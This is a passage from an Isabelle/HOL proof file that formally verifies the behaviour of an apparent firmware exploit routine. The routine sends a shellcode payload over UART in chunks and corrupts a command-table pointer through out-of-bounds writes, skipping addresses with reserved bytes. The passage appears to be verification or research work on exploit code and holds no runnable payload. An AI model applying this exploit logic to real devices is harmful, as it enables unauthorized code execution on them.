    with a p1 have "s' = s1" by (simp add: set_payload_def)
    with q1 show ?thesis by simp
  next
    case True
    with a p1 have "set_payload_loop p 0 0 s1 = (r, s')" by (simp add: set_payload_def)
    from quiet_trans [OF q1 set_payload_loop_quiet [OF this]] show ?thesis .
  qed
qed

lemma craft_and_set_payload_quiet:
  "craft_and_set_payload s = Some (r, s') \<Longrightarrow> \<exists>es. io_step s es s' \<and> oob_values es = []"
proof -
  assume a: "craft_and_set_payload s = Some (r, s')"
  then consider "s' = s" | p where "set_payload p s = (r, s')"
    by (auto simp: craft_and_set_payload_def Let_def split: if_splits option.splits)
  then show ?thesis
  proof cases
    case 1
    then show ?thesis using io_step_refl [of s] by (intro exI [of _ "[]"]) simp
  next
    case 2
    then show ?thesis by (rule set_payload_quiet)
  qed
qed

lemma resolve_constants_quiet:
  "resolve_constants s = (r, s') \<Longrightarrow> oob_values (trace s') = oob_values (trace s)"
proof -
  assume a: "resolve_constants s = (r, s')"
  obtain rv sv where v: "version s = (rv, sv)" by (cases "version s")
  then have "io_step s [UartWrite (cmd_text ''version'') True] sv"
    by (simp add: version_def cmd_send_recv_io)
  then have "oob_values (trace sv) = oob_values (trace s)"
    by (rule io_step_oob) (simp add: cmd_text_def)
  with a v show ?thesis
    by (auto simp: resolve_constants_def Let_def split: if_splits option.splits)
qed

section \<open>The reserved-byte check\<close>

text \<open>
  Claim C3. If one of the four bytes of the target address is a backspace, CR, LF or NAK,
  \<open>overwrite_cmd_table_ptr\<close> returns false and leaves the state as it was: nothing has
  been written. When constants resolution and payload delivery have succeeded and the
  resolved address has such a byte, \<open>exploit_setup\<close> returns Ng with status
  \<open>kFwConstsInvalid\<close> (\<open>0xdead0003\<close>) in the state the delivery left, and the trace holds
  no out-of-bounds write that was not there before. If no byte is reserved, the function
  returns true after the writes, the last of which is the full target.
\<close>

theorem reserved_byte_precheck:
  "(list_ex is_reserved_byte (addr_bytes (ucmd_ua_buf_addr (fw_consts s))) \<longrightarrow>
      overwrite_cmd_table_ptr s = (False, s)) \<and>
   (\<not> list_ex is_reserved_byte (addr_bytes (ucmd_ua_buf_addr (fw_consts s))) \<longrightarrow>
      fst (overwrite_cmd_table_ptr s) \<and>
      oob_values (trace (snd (overwrite_cmd_table_ptr s))) =
        oob_values (trace s) @ early_writes (addr_bytes (ucmd_ua_buf_addr (fw_consts s))) @
        [addr_bytes (ucmd_ua_buf_addr (fw_consts s))]) \<and>
   (resolve_constants s = (r1, s1) \<and> is_success r1 \<and>
    craft_and_set_payload s1 = Some (r2, s2) \<and> is_success r2 \<and>
    list_ex is_reserved_byte (addr_bytes (ucmd_ua_buf_addr (fw_consts s1))) \<longrightarrow>
      exploit_setup s = Some (new_ng kFwConstsInvalid [], s2) \<and>
      new_ng kFwConstsInvalid [] = \<lparr>rtype = kNg, rstatus = 0xdead0003, rresponse = []\<rparr> \<and>
      oob_values (trace s2) = oob_values (trace s))"
proof (intro conjI impI)
  assume "list_ex is_reserved_byte (addr_bytes (ucmd_ua_buf_addr (fw_consts s)))"
  then show "overwrite_cmd_table_ptr s = (False, s)"
    by (simp add: overwrite_cmd_table_ptr_eq Let_def)
next
  assume "\<not> list_ex is_reserved_byte (addr_bytes (ucmd_ua_buf_addr (fw_consts s)))"
  then show "fst (overwrite_cmd_table_ptr s)"
    by (simp add: overwrite_cmd_table_ptr_eq Let_def)
next
  assume "\<not> list_ex is_reserved_byte (addr_bytes (ucmd_ua_buf_addr (fw_consts s)))"
  then show "oob_values (trace (snd (overwrite_cmd_table_ptr s))) =
        oob_values (trace s) @ early_writes (addr_bytes (ucmd_ua_buf_addr (fw_consts s))) @
        [addr_bytes (ucmd_ua_buf_addr (fw_consts s))]"
    by (rule overwrite_oob_values)
next
  assume a: "resolve_constants s = (r1, s1) \<and> is_success r1 \<and>
    craft_and_set_payload s1 = Some (r2, s2) \<and> is_success r2 \<and>
    list_ex is_reserved_byte (addr_bytes (ucmd_ua_buf_addr (fw_consts s1)))"
  then obtain es where io: "io_step s1 es s2" "oob_values es = []"
    using craft_and_set_payload_quiet by blast
  then have "fw_consts s2 = fw_consts s1" by (simp add: io_step_fields)
  with a have "overwrite_cmd_table_ptr s2 = (False, s2)"
    by (simp add: overwrite_cmd_table_ptr_eq Let_def)
  with a show "exploit_setup s = Some (new_ng kFwConstsInvalid [], s2)"
    by (simp add: exploit_setup_def)
  from a io show "oob_values (trace s2) = oob_values (trace s)"
    using resolve_constants_quiet [of s r1 s1] io_step_oob [of s1 es s2] by simp
next
  show "new_ng kFwConstsInvalid [] = \<lparr>rtype = kNg, rstatus = 0xdead0003, rresponse = []\<rparr>"
    by (simp add: new_ng_def kFwConstsInvalid_def)
qed

lemma set_payload_one_chunk:
  assumes len: "length p = 50"
    and rx: "rx_script s = [Some (puareq1_cmdline 0), Some ''OK 00000000'',
                            Some (puareq2_cmdline 0 p), Some ''OK 00000000'']"
  shows "set_payload p s =
     (new_success [],
      s\<lparr>rx_script := [],
        trace := trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                            UartWrite (cmd_text (puareq1_cmdline 0)) True,
                            UartWrite (cmd_text (puareq2_cmdline 0 p)) True]\<rparr>)"
proof -
  let ?s1 = "(nak s)\<lparr>rx_script := [Some (puareq2_cmdline 0 p), Some ''OK 00000000''],
      trace := trace (nak s) @ [UartWrite (cmd_text (puareq1_cmdline 0)) True]\<rparr>"
  have "rx_script (nak s) = Some (puareq1_cmdline 0) # Some ''OK 00000000'' #
      [Some (puareq2_cmdline 0 p), Some ''OK 00000000'']"
    using rx by (simp add: nak_emit emit_def)
  from cmd_send_recv_acked [OF this]
  have p1: "puareq1 0 (nak s) = (True, ?s1)"
    by (simp add: puareq1_def is_success_new_success)
  have "rx_script ?s1 = Some (puareq2_cmdline 0 p) # Some ''OK 00000000'' # []"
    by simp
  from cmd_send_recv_acked [OF this]
  have p2: "puareq2 0 p ?s1 =
      (True, ?s1\<lparr>rx_script := [],
         trace := trace ?s1 @ [UartWrite (cmd_text (puareq2_cmdline 0 p)) True]\<rparr>)"
    by (simp add: puareq2_def is_success_new_success)
  have "set_payload_loop p 0 0 ?s1 =
      (new_success [], ?s1\<lparr>rx_script := [],
         trace := trace ?s1 @ [UartWrite (cmd_text (puareq2_cmdline 0 p)) True]\<rparr>)"
    using len p2
    by (subst set_payload_loop.simps, subst set_payload_loop.simps) (simp add: Let_def)
  then show ?thesis
    using p1 by (simp add: set_payload_def nak_emit emit_def)
qed

lemma craft_empty_shellcode:
  assumes "shellcode (fw_consts s) = []"
    and "rx_script s = [Some (puareq1_cmdline 0), Some ''OK 00000000'',
          Some (puareq2_cmdline 0 (payload_prefix (ucmd_ua_buf_addr (fw_consts s)) @ replicate 22 0)),
          Some ''OK 00000000'']"
  shows "craft_and_set_payload s =
     Some (new_success [],
      s\<lparr>rx_script := [],
        trace := trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
          UartWrite (cmd_text (puareq1_cmdline 0)) True,
          UartWrite (cmd_text (puareq2_cmdline 0
             (payload_prefix (ucmd_ua_buf_addr (fw_consts s)) @ replicate 22 0))) True]\<rparr>)"
proof -
  let ?p = "payload_prefix (ucmd_ua_buf_addr (fw_consts s)) @ replicate 22 0"
  have "length ?p = 50" by (simp add: length_payload_prefix)
  from set_payload_one_chunk [OF this assms(2)] show ?thesis
    using assms(1)
    by (simp add: craft_and_set_payload_def Let_def length_payload_prefix payload_max_len_def
        align_up_def)
qed

theorem reserved_byte_precheck_witness:
  "overwrite_cmd_table_ptr (emc_resolved [] \<lparr>ucmd_ua_buf_addr = 0x17080A, shellcode = []\<rparr>) =
     (False, emc_resolved [] \<lparr>ucmd_ua_buf_addr = 0x17080A, shellcode = []\<rparr>) \<and>
   fst (overwrite_cmd_table_ptr (emc_resolved [] \<lparr>ucmd_ua_buf_addr = 0x1762e8, shellcode = []\<rparr>)) \<and>
   oob_values (trace (snd (overwrite_cmd_table_ptr
       (emc_resolved [] \<lparr>ucmd_ua_buf_addr = 0x1762e8, shellcode = []\<rparr>)))) =
     [[0, 0, 0x17, 0], [0xe8, 0x62, 0x17, 0]] \<and>
   (\<exists>s2. exploit_setup (emc_resolved
        [Some (puareq1_cmdline 0), Some ''OK 00000000'',
         Some (puareq2_cmdline 0 (payload_prefix 0x17080A @ replicate 22 0)),
         Some ''OK 00000000'']
        \<lparr>ucmd_ua_buf_addr = 0x17080A, shellcode = []\<rparr>) =
       Some (\<lparr>rtype = kNg, rstatus = 0xdead0003, rresponse = []\<rparr>, s2) \<and>
      oob_values (trace s2) = [])"
proof -
  let ?bad = "\<lparr>ucmd_ua_buf_addr = 0x17080A, shellcode = []\<rparr>"
  let ?good = "\<lparr>ucmd_ua_buf_addr = 0x1762e8, shellcode = []\<rparr>"
  let ?script = "[Some (puareq1_cmdline 0), Some ''OK 00000000'',
         Some (puareq2_cmdline 0 (payload_prefix 0x17080A @ replicate 22 0)),
         Some ''OK 00000000'']"
  let ?s = "emc_resolved ?script ?bad"
  have fw: "fw_consts (emc_resolved sc f) = f" "trace (emc_resolved sc f) = []"
    "rx_script (emc_resolved sc f) = sc" "fw_consts_valid (emc_resolved sc f)" for sc f
    by (simp_all add: emc_resolved_def emc_init_def)
  have bad: "list_ex is_reserved_byte (addr_bytes 0x17080A)"
    by (simp add: addr_bytes_def is_reserved_byte_def)
  have good: "\<not> list_ex is_reserved_byte (addr_bytes 0x1762e8)"
    "addr_bytes 0x1762e8 = [0xe8, 0x62, 0x17, 0]"
    by (simp_all add: addr_bytes_def is_reserved_byte_def)
  have ew: "early_writes [0xe8, 0x62, 0x17, 0] = [[0, 0, 0x17, 0]]"
    by (simp add: early_writes_def is_printable_def zero_through_def)
  have rc: "resolve_constants ?s = (new_success [], ?s)"
    by (simp add: resolve_constants_def fw)
  obtain s2 where cr: "craft_and_set_payload ?s = Some (new_success [], s2)"
    using craft_empty_shellcode [of ?s] by (simp add: fw)
  from reserved_byte_precheck [of "emc_resolved [] ?bad"]
    reserved_byte_precheck [of "emc_resolved [] ?good"]
    reserved_byte_precheck [of ?s "new_success []" ?s "new_success []" s2]
    bad good ew rc cr
  show ?thesis
    by (simp add: fw is_success_new_success)
qed

section \<open>The order of the out-of-bounds writes\<close>

text \<open>
  Claim C2, as amended. When no byte of the target address is reserved,
  \<open>overwrite_cmd_table_ptr\<close> looks at the four bytes from the most significant (element
  3) to the least (element 0) and, for each one in the printable range \<open>[0x20, 0x80)\<close>,
  performs one \<open>write_oob\<close> of the target with the elements up to and including that byte
  zeroed; then it performs the final \<open>write_oob\<close> of the full target. So there are one
  more writes than printable bytes: exactly two, the zero-padded one and the full one, when
  exactly one byte is printable, and only the full one when none is.
\<close>

theorem cmd_table_ptr_write_order:
  "\<not> list_ex is_reserved_byte (addr_bytes (ucmd_ua_buf_addr (fw_consts s))) \<longrightarrow>
     overwrite_cmd_table_ptr s =
       (True, emit (concat (map (write_oob_events (chip_consts s))
          (early_writes (addr_bytes (ucmd_ua_buf_addr (fw_consts s))) @
           [addr_bytes (ucmd_ua_buf_addr (fw_consts s))]))) s) \<and>
     oob_values (trace (snd (overwrite_cmd_table_ptr s))) =
       oob_values (trace s) @
       map (\<lambda>pos. zero_through pos (addr_bytes (ucmd_ua_buf_addr (fw_consts s))))
         (filter (\<lambda>pos. is_printable (addr_bytes (ucmd_ua_buf_addr (fw_consts s)) ! pos))
            [3, 2, 1, 0]) @
       [addr_bytes (ucmd_ua_buf_addr (fw_consts s))] \<and>
     length (early_writes (addr_bytes (ucmd_ua_buf_addr (fw_consts s))) @
             [addr_bytes (ucmd_ua_buf_addr (fw_consts s))]) =
       1 + length (filter is_printable (addr_bytes (ucmd_ua_buf_addr (fw_consts s))))"
proof (intro impI conjI)
  let ?t = "addr_bytes (ucmd_ua_buf_addr (fw_consts s))"
  assume a: "\<not> list_ex is_reserved_byte ?t"
  then show "overwrite_cmd_table_ptr s =
       (True, emit (concat (map (write_oob_events (chip_consts s)) (early_writes ?t @ [?t]))) s)"
    by (simp only: overwrite_cmd_table_ptr_eq Let_def if_False)
  from a show "oob_values (trace (snd (overwrite_cmd_table_ptr s))) =
       oob_values (trace s) @
       map (\<lambda>pos. zero_through pos ?t) (filter (\<lambda>pos. is_printable (?t ! pos)) [3, 2, 1, 0]) @
       [?t]"
    using overwrite_oob_values [OF a] by (simp only: early_writes_def)
  show "length (early_writes ?t @ [?t]) = 1 + length (filter is_printable ?t)"
    by (simp add: early_writes_count length_addr_bytes)
qed

theorem cmd_table_ptr_write_order_witness:
  "oob_values (trace (snd (overwrite_cmd_table_ptr
       (emc_resolved [] \<lparr>ucmd_ua_buf_addr = 0x1762e8, shellcode = []\<rparr>)))) =
     [[0, 0, 0x17, 0], [0xe8, 0x62, 0x17, 0]] \<and>
   oob_values (trace (snd (overwrite_cmd_table_ptr
       (emc_resolved [] \<lparr>ucmd_ua_buf_addr = 0x17de38, shellcode = []\<rparr>)))) =
     [[0, 0xde, 0x17, 0], [0x38, 0xde, 0x17, 0]]"
proof -
  have fw: "fw_consts (emc_resolved sc f) = f" "trace (emc_resolved sc f) = []" for sc f
    by (simp_all add: emc_resolved_def emc_init_def)
  have a: "addr_bytes 0x1762e8 = [0xe8, 0x62, 0x17, 0]" "addr_bytes 0x17de38 = [0x38, 0xde, 0x17, 0]"
    by (simp_all add: addr_bytes_def)
  have r: "\<not> list_ex is_reserved_byte (addr_bytes (ucmd_ua_buf_addr (fw_consts
        (emc_resolved [] \<lparr>ucmd_ua_buf_addr = 0x1762e8, shellcode = []\<rparr>))))"
    "\<not> list_ex is_reserved_byte (addr_bytes (ucmd_ua_buf_addr (fw_consts
        (emc_resolved [] \<lparr>ucmd_ua_buf_addr = 0x17de38, shellcode = []\<rparr>))))"
    by (simp_all add: fw a is_reserved_byte_def)
  from cmd_table_ptr_write_order [THEN mp, OF r(1), THEN conjunct2, THEN conjunct1]
    cmd_table_ptr_write_order [THEN mp, OF r(2), THEN conjunct2, THEN conjunct1]
  show ?thesis
    by (simp add: fw a is_printable_def zero_through_def)
qed

text \<open>
  The claim as it was stated fails at an address with two printable bytes: for
  \<open>0x00004141\<close>, which has no reserved byte, the corruption is performed three times,
  not twice.
\<close>

theorem cmd_table_ptr_twice_counterexample:
  "list_ex is_printable (addr_bytes 0x4141) \<and> \<not> list_ex is_reserved_byte (addr_bytes 0x4141) \<and>
   oob_values (trace (snd (overwrite_cmd_table_ptr
       (emc_resolved [] \<lparr>ucmd_ua_buf_addr = 0x4141, shellcode = []\<rparr>)))) =
     [[0, 0, 0, 0], [0, 0x41, 0, 0], [0x41, 0x41, 0, 0]]"
proof -
  have fw: "fw_consts (emc_resolved sc f) = f" "trace (emc_resolved sc f) = []" for sc f
    by (simp_all add: emc_resolved_def emc_init_def)
  have a: "addr_bytes 0x4141 = [0x41, 0x41, 0, 0]"
    by (simp add: addr_bytes_def)
  have r: "\<not> list_ex is_reserved_byte (addr_bytes 0x4141)"
    by (simp add: a is_reserved_byte_def)
  from overwrite_oob_values [of "emc_resolved [] \<lparr>ucmd_ua_buf_addr = 0x4141, shellcode = []\<rparr>"] r
  show ?thesis
    by (simp add: fw a is_reserved_byte_def is_printable_def zero_through_def early_writes_def)
qed

section \<open>Payload delivery in chunks\<close>

lemma set_payload_loop_chunks:
  "set_payload_loop p pos idx s = deliver_chunks (chunks 50 (drop pos p)) idx s"
proof (induction p pos idx s rule: set_payload_loop.induct)
  case (1 payload pos idx s)
  show ?case
  proof (cases "pos < length payload")
    case False
    then show ?thesis
      by (subst set_payload_loop.simps, subst chunks.simps) simp
  next
    case True
    let ?chunk = "take (min (pos + 50) (length payload) - pos) (drop pos payload)"
    have c: "?chunk = take 50 (drop pos payload)"
      by (simp add: min_def)
    have ch: "chunks 50 (drop pos payload) =
        take 50 (drop pos payload) # chunks 50 (drop (pos + 50) payload)"
      using True by (subst chunks.simps) (simp add: add.commute)
    obtain b s1 where p2: "puareq2 idx ?chunk s = (b, s1)" by (cases "puareq2 idx ?chunk s")
    show ?thesis
    proof (cases b)
      case False
      with True p2 show ?thesis
        unfolding ch by (subst set_payload_loop.simps) (simp add: Let_def c)
    next
      case b: True
      then have bt: "b = True" by simp
      from 1 [OF True refl p2 [symmetric] bt]
      have "set_payload_loop payload (pos + 50) (idx + 1) s1 =
          deliver_chunks (chunks 50 (drop (pos + 50) payload)) (idx + 1) s1" .
      with True p2 b show ?thesis
        unfolding ch by (subst set_payload_loop.simps) (simp add: Let_def c)
    qed
  qed
qed

lemma chunks_200:
  assumes "length p = 200"
  shows "chunks 50 p = [take 50 p, take 50 (drop 50 p), take 50 (drop 100 p), take 50 (drop 150 p)]"
proof -
  have n: "p \<noteq> []" "drop 50 p \<noteq> []" "drop 100 p \<noteq> []" "drop 150 p \<noteq> []" "drop 200 p = []"
    using assms by auto
  have c5: "chunks 50 (drop 200 p) = []"
    by (subst chunks.simps) (simp add: n)
  have c4: "chunks 50 (drop 150 p) = [take 50 (drop 150 p)]"
    using n(4) by (subst chunks.simps) (simp add: c5)
  have c3: "chunks 50 (drop 100 p) = [take 50 (drop 100 p), take 50 (drop 150 p)]"
    using n(3) by (subst chunks.simps) (simp add: c4)
  have c2: "chunks 50 (drop 50 p) =
      [take 50 (drop 50 p), take 50 (drop 100 p), take 50 (drop 150 p)]"
    using n(2) by (subst chunks.simps) (simp add: c3)
  show ?thesis
    using n(1) by (subst chunks.simps) (simp add: c2)
qed

lemma chunks_200_props:
  assumes "length p = 200"
  shows "length (chunks 50 p) = 4" "list_all (\<lambda>c. length c = 50) (chunks 50 p)"
    "concat (chunks 50 p) = p"
proof -
  show "length (chunks 50 p) = 4" by (simp add: chunks_200 [OF assms])
  show "list_all (\<lambda>c. length c = 50) (chunks 50 p)"
    using assms by (simp add: chunks_200 [OF assms])
  have "take 50 p @ take 50 (drop 50 p) @ take 50 (drop 100 p) @ take 50 (drop 150 p) =
      take 200 p"
    using take_add [of 50 50 p] take_add [of 100 50 p] take_add [of 150 50 p] by simp
  then show "concat (chunks 50 p) = p"
    using assms by (simp add: chunks_200 [OF assms])
qed

lemma craft_187:
  assumes "length (shellcode (fw_consts s)) = 159"
  shows "craft_and_set_payload s =
     Some (set_payload (payload_prefix (ucmd_ua_buf_addr (fw_consts s)) @
        shellcode (fw_consts s) @ replicate 13 0) s)"
proof -
  have "align_up 187 50 = Some 200"
    by (simp add: align_up_def)
  then show ?thesis
    using assms
    by (simp add: craft_and_set_payload_def Let_def length_payload_prefix payload_max_len_def)
qed

lemma set_payload_deliver:
  "set_payload p s =
     (case puareq1 0 (nak s) of
        (False, s1) \<Rightarrow> (new_ng kSetPayloadPuareq1Failed [], s1)
      | (True, s1) \<Rightarrow> deliver_chunks (chunks 50 p) 0 s1)"
  by (simp add: set_payload_def set_payload_loop_chunks split: prod.splits bool.splits)

lemma deliver_chunks_acked:
  "rx_script s = ack_script (puareq2_cmdlines idx cs) @ rest \<Longrightarrow>
   deliver_chunks cs idx s =
     (new_success [], s\<lparr>rx_script := rest, trace := trace s @ puareq2_writes idx cs\<rparr>)"
proof (induction cs arbitrary: idx s)
  case Nil
  then show ?case by (simp add: ack_script_def)
next
  case (Cons c cs)
  let ?s1 = "s\<lparr>rx_script := ack_script (puareq2_cmdlines (idx + 1) cs) @ rest,
      trace := trace s @ [UartWrite (cmd_text (puareq2_cmdline idx c)) True]\<rparr>"
  from Cons.prems have "rx_script s = Some (puareq2_cmdline idx c) # Some ''OK 00000000'' #
      (ack_script (puareq2_cmdlines (idx + 1) cs) @ rest)"
    by (simp add: ack_script_def)
  from cmd_send_recv_acked [OF this] have p2: "puareq2 idx c s = (True, ?s1)"
    by (simp add: puareq2_def is_success_new_success)
  have "rx_script ?s1 = ack_script (puareq2_cmdlines (idx + 1) cs) @ rest" by simp
  from Cons.IH [OF this] p2 show ?case by simp
qed

subsection \<open>Requests, acknowledged and not\<close>

lemma puareq2_cmdline_digits:
  "puareq2_cmdline 0 c = ''puareq2 0 '' @ buf2hex c"
  "puareq2_cmdline 1 c = ''puareq2 1 '' @ buf2hex c"
  "puareq2_cmdline 2 c = ''puareq2 2 '' @ buf2hex c"
  "puareq2_cmdline 3 c = ''puareq2 3 '' @ buf2hex c"
  by (simp_all add: puareq2_cmdline_def format_x_def hex_min.simps lower_digit_def)

lemma puareq1_cmdline_0: "puareq1_cmdline 0 = ''puareq1 0''"
  by (simp add: puareq1_cmdline_def format_x_def hex_min.simps lower_digit_def)

lemma puareq2_cmdlines_200:
  assumes "length p = 200"
  shows "puareq2_cmdlines 0 (chunks 50 p) = delivery_requests p"
  by (simp add: chunks_200 [OF assms] puareq2_cmdline_digits delivery_requests_def)

lemma puareq2_writes_cmdlines:
  "puareq2_writes idx cs = map (\<lambda>c. UartWrite (cmd_text c) True) (puareq2_cmdlines idx cs)"
  by (induction cs arbitrary: idx) simp_all

lemma length_puareq2_cmdlines: "length (puareq2_cmdlines idx cs) = length cs"
  by (induction cs arbitrary: idx) simp_all

lemma not_success_new_timeout: "\<not> is_success new_timeout"
  by (simp add: is_success_def is_ok_status_def is_ok_def new_timeout_def)

lemma unacknowledged_cases:
  "unacknowledged c bad \<Longrightarrow>
   bad = [None] \<or> bad = [Some c, None] \<or>
   (\<exists>l. bad = [Some c, Some l] \<and> is_ok_or_ng (from_str l) \<and> \<not> is_success (from_str l))"
  by (erule unacknowledged.elims) auto

lemma cmd_send_recv_unacknowledged:
  assumes "unacknowledged c bad" "rx_script s = bad @ rest"
  shows "\<exists>r. cmd_send_recv c t s =
       (r, s\<lparr>rx_script := rest, trace := trace s @ [UartWrite (cmd_text c) True]\<rparr>) \<and>
     \<not> is_success r"
proof -
  from unacknowledged_cases [OF assms(1)]
  consider "bad = [None]" | "bad = [Some c, None]"
    | l where "bad = [Some c, Some l]" "is_ok_or_ng (from_str l)" "\<not> is_success (from_str l)"
    by blast
  then show ?thesis
  proof cases
    case 1
    with assms(2) show ?thesis
      by (simp add: cmd_send_recv_def cmd_send_def Let_def write_str_blocking_def emit_def
          cmd_send_wait_echo.simps [of c] emc_read_line_def not_success_new_timeout)
  next
    case 2
    with assms(2) show ?thesis
      by (simp add: cmd_send_recv_def cmd_send_def Let_def write_str_blocking_def emit_def
          cmd_send_wait_echo.simps [of c] read_result.simps [of t] emc_read_line_def
          not_success_new_timeout)
  next
    case 3
    with assms(2) show ?thesis
      by (simp add: cmd_send_recv_def cmd_send_def Let_def write_str_blocking_def emit_def
          cmd_send_wait_echo.simps [of c] read_result.simps [of t] emc_read_line_def)
  qed
qed

lemma deliver_chunks_unacknowledged:
  "j < length cs \<Longrightarrow> unacknowledged (puareq2_cmdlines idx cs ! j) bad \<Longrightarrow>
   rx_script s = ack_script (take j (puareq2_cmdlines idx cs)) @ bad @ rest \<Longrightarrow>
   deliver_chunks cs idx s =
     (new_ng kSetPayloadPuareq2Failed [],
      s\<lparr>rx_script := rest,
        trace := trace s @ take (Suc j) (puareq2_writes idx cs)\<rparr>)"
proof (induction cs arbitrary: idx j s)
  case Nil
  then show ?case by simp
next
  case (Cons c cs)
  show ?case
  proof (cases j)
    case 0
    with Cons.prems have u: "unacknowledged (puareq2_cmdline idx c) bad"
      and r: "rx_script s = bad @ rest" by (simp_all add: ack_script_def)
    from cmd_send_recv_unacknowledged [OF u r, of 10000]
    have "puareq2 idx c s =
        (False, s\<lparr>rx_script := rest,
           trace := trace s @ [UartWrite (cmd_text (puareq2_cmdline idx c)) True]\<rparr>)"
      by (auto simp: puareq2_def)
    with 0 show ?thesis by simp
  next
    case (Suc i)
    let ?s1 = "s\<lparr>rx_script := ack_script (take i (puareq2_cmdlines (idx + 1) cs)) @ bad @ rest,
        trace := trace s @ [UartWrite (cmd_text (puareq2_cmdline idx c)) True]\<rparr>"
    from Cons.prems Suc have "rx_script s = Some (puareq2_cmdline idx c) # Some ''OK 00000000'' #
        (ack_script (take i (puareq2_cmdlines (idx + 1) cs)) @ bad @ rest)"
      by (simp add: ack_script_def)
    from cmd_send_recv_acked [OF this] have p2: "puareq2 idx c s = (True, ?s1)"
      by (simp add: puareq2_def is_success_new_success)
    from Cons.prems Suc have i: "i < length cs"
      and u: "unacknowledged (puareq2_cmdlines (idx + 1) cs ! i) bad" by simp_all
    have "rx_script ?s1 = ack_script (take i (puareq2_cmdlines (idx + 1) cs)) @ bad @ rest"
      by simp
    from Cons.IH [OF i u this] p2 Suc show ?thesis by simp
  qed
qed


lemma puareq2_cmdlines_take:
  "puareq2_cmdlines idx (take k cs) = take k (puareq2_cmdlines idx cs)"
proof (induction cs arbitrary: idx k)
  case Nil
  then show ?case by simp
next
  case (Cons c cs)
  then show ?case by (cases k) simp_all
qed

lemma deliver_chunks_outcome:
  "deliver_chunks cs idx s = (r, s') \<Longrightarrow>
   \<exists>k. k \<le> length cs \<and> io_step s (puareq2_writes idx (take k cs)) s' \<and>
       (r = new_ng kSetPayloadPuareq2Failed [] \<and> 0 < k \<or>
        r = new_success [] \<and> k = length cs)"
proof (induction cs arbitrary: idx s)
  case Nil
  then show ?case
    using io_step_refl [of s] by auto
next
  case (Cons c cs)
  obtain b s1 where p2: "puareq2 idx c s = (b, s1)" by (cases "puareq2 idx c s")
  then have io1: "io_step s [UartWrite (cmd_text (puareq2_cmdline idx c)) True] s1"
    by (rule puareq2_io)
  show ?case
  proof (cases b)
    case False
    with Cons.prems p2 have "r = new_ng kSetPayloadPuareq2Failed []" "s' = s1" by auto
    then show ?thesis
      using io1 by (intro exI [of _ 1]) simp
  next
    case True
    with Cons.prems p2 have "deliver_chunks cs (idx + 1) s1 = (r, s')" by simp
    from Cons.IH [OF this] obtain k where k: "k \<le> length cs"
      "io_step s1 (puareq2_writes (idx + 1) (take k cs)) s'"
      "r = new_ng kSetPayloadPuareq2Failed [] \<and> 0 < k \<or> r = new_success [] \<and> k = length cs"
      by blast
    from io_step_trans [OF io1 k(2)]
    have "io_step s (puareq2_writes idx (take (Suc k) (c # cs))) s'" by simp
    with k(1,3) show ?thesis
      by (intro exI [of _ "Suc k"]) auto
  qed
qed

lemma set_payload_outcome:
  assumes "length p = 200"
  shows "\<exists>k\<le>4.
     trace (snd (set_payload p s)) =
       trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
       map (\<lambda>c. UartWrite (cmd_text c) True) (take k (delivery_requests p)) \<and>
     (fst (set_payload p s) = new_ng kSetPayloadPuareq1Failed [] \<and> k = 0 \<or>
      fst (set_payload p s) = new_ng kSetPayloadPuareq2Failed [] \<and> 0 < k \<or>
      fst (set_payload p s) = new_success [] \<and> k = 4)"
proof -
  note c = chunks_200_props [OF assms]
  obtain b s1 where p1: "puareq1 0 (nak s) = (b, s1)" by (cases "puareq1 0 (nak s)")
  have "io_step s [UartWrite [CHR 0x15] True, BusyWaitMs 10] (nak s)"
    by (simp add: nak_emit io_step_emit)
  from io_step_trans [OF this puareq1_io [OF p1]]
  have io1: "io_step s [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] s1"
    by (simp add: puareq1_cmdline_0)
  show ?thesis
  proof (cases b)
    case False
    with p1 have "set_payload p s = (new_ng kSetPayloadPuareq1Failed [], s1)"
      by (simp add: set_payload_deliver)
    with io_step_fields(1) [OF io1] show ?thesis
      by (intro exI [of _ 0]) simp
  next
    case True
    obtain r s' where d: "deliver_chunks (chunks 50 p) 0 s1 = (r, s')"
      by (cases "deliver_chunks (chunks 50 p) 0 s1")
    with True p1 have sp: "set_payload p s = (r, s')"
      by (simp add: set_payload_deliver)
    from deliver_chunks_outcome [OF d] obtain k where k: "k \<le> 4"
      "io_step s1 (puareq2_writes 0 (take k (chunks 50 p))) s'"
      "r = new_ng kSetPayloadPuareq2Failed [] \<and> 0 < k \<or> r = new_success [] \<and> k = 4"
      by (auto simp: c(1))
    have "puareq2_writes 0 (take k (chunks 50 p)) =
        map (\<lambda>c. UartWrite (cmd_text c) True) (take k (delivery_requests p))"
      by (simp add: puareq2_writes_cmdlines puareq2_cmdlines_take puareq2_cmdlines_200 [OF assms])
    with io_step_fields(1) [OF io_step_trans [OF io1 k(2)]] sp k(1,3) show ?thesis
      by (intro exI [of _ k]) auto
  qed
qed

lemma set_payload_primed:
  assumes "rx_script s = Some ''puareq1 0'' # Some ''OK 00000000'' # rest"
  shows "set_payload p s =
     deliver_chunks (chunks 50 p) 0
       (s\<lparr>rx_script := rest, trace := trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True]\<rparr>)"
proof -
  have "rx_script (nak s) = Some (puareq1_cmdline 0) # Some ''OK 00000000'' # rest"
    using assms by (simp add: nak_emit emit_def puareq1_cmdline_0)
  from cmd_send_recv_acked [OF this]
  have "puareq1 0 (nak s) = (True, s\<lparr>rx_script := rest, trace := trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True]\<rparr>)"
    by (simp add: puareq1_def is_success_new_success nak_emit emit_def puareq1_cmdline_0)
  then show ?thesis by (simp add: set_payload_deliver)
qed

lemma set_payload_unacknowledged:
  assumes "length p = 200" "j < 4" "unacknowledged (delivery_requests p ! j) bad"
    "rx_script s = ack_script (''puareq1 0'' # take j (delivery_requests p)) @ bad @ rest"
  shows "set_payload p s =
     (new_ng kSetPayloadPuareq2Failed [],
      s\<lparr>rx_script := rest,
        trace := trace s @ [UartWrite [CHR 0x15] True, BusyWaitMs 10,
                UartWrite (cmd_text ''puareq1 0'') True] @
          map (\<lambda>c. UartWrite (cmd_text c) True) (take (Suc j) (delivery_requests p))\<rparr>)"
proof -
  note c = chunks_200_props [OF assms(1)]
